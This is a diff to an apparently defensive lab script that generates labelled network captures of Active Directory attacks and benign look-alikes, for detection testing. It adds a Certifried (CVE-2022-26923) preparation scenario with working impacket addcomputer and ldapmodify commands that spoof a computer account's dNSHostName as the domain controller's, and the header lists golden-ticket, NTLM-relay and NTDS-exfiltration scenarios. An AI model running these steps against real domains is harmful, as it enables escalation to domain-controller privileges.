@@ -5,7 +5,7 @@
 #             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
-#             ntlm_relay_drop_mic ntlm_relay_dc_account" \
+#             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -526,5 +526,28 @@ sc_ntlm_relay_dc_account() {
     >> "$OUT/.meta/$CUR/output.log" 2>&1 < /dev/null
   relay_stop
   expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP && ntlmssp.auth.username==\"${DCNAME^^}\$\""
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST dnshostname_spoofing benign_computer_rename"
+
+sc_dnshostname_spoofing() {
+  cap_begin dnshostname_spoofing attack T1068 "$ATK_IP" "EVILPC\$ (dNSHostName set to $DCFQDN)" \
+    "Certifried (CVE-2022-26923) preparation: with a stolen delegated-admin account ($DA_USER), a computer account is added (impacket addcomputer over SAM-R) and its dNSHostName set to the DC's ($DCFQDN) after its SPNs are cleared (ldapmodify over a simple bind), so a certificate requested for it would name the DC."
+  # Samba enforces no machine account quota for plain users over SAM-R: the phished account
+  # here is the delegated admin da_admin (creator and writer alike, as in Certifried).
+  on atk 60 -- "$VPY" "$IMP/addcomputer.py" -method SAMR -computer-name 'EVILPC$' -computer-pass 'Evil!Pc2024' -dc-ip "$DC_IP" "$DNSDOM/$DA_USER:$DA_PASS"
+  printf 'dn: CN=EVILPC,CN=Computers,%s\nchangetype: modify\nreplace: servicePrincipalName\n-\nreplace: dNSHostName\ndNSHostName: %s\n' "$BASEDN" "$DCFQDN" > "$WORK/tmp/certifried.ldif"
+  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/certifried.ldif"
+  expect 'ldap.protocolOp==6'
+  cap_end
+}
+
+sc_benign_computer_rename() {
+  cap_begin benign_computer_rename benign none "$WS_IP" "WS02\$ (dNSHostName)" \
+    "An admin correcting a computer's DNS name: WS02's dNSHostName set to its own name in the domain (ldapmodify as da_admin)."
+  printf 'dn: CN=WS02,CN=Computers,%s\nchangetype: modify\nreplace: dNSHostName\ndNSHostName: ws02.%s\n' "$BASEDN" "$DNSDOM" > "$WORK/tmp/ws02.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/ws02.ldif"
+  expect 'ldap.protocolOp==6'
   cap_end
 }
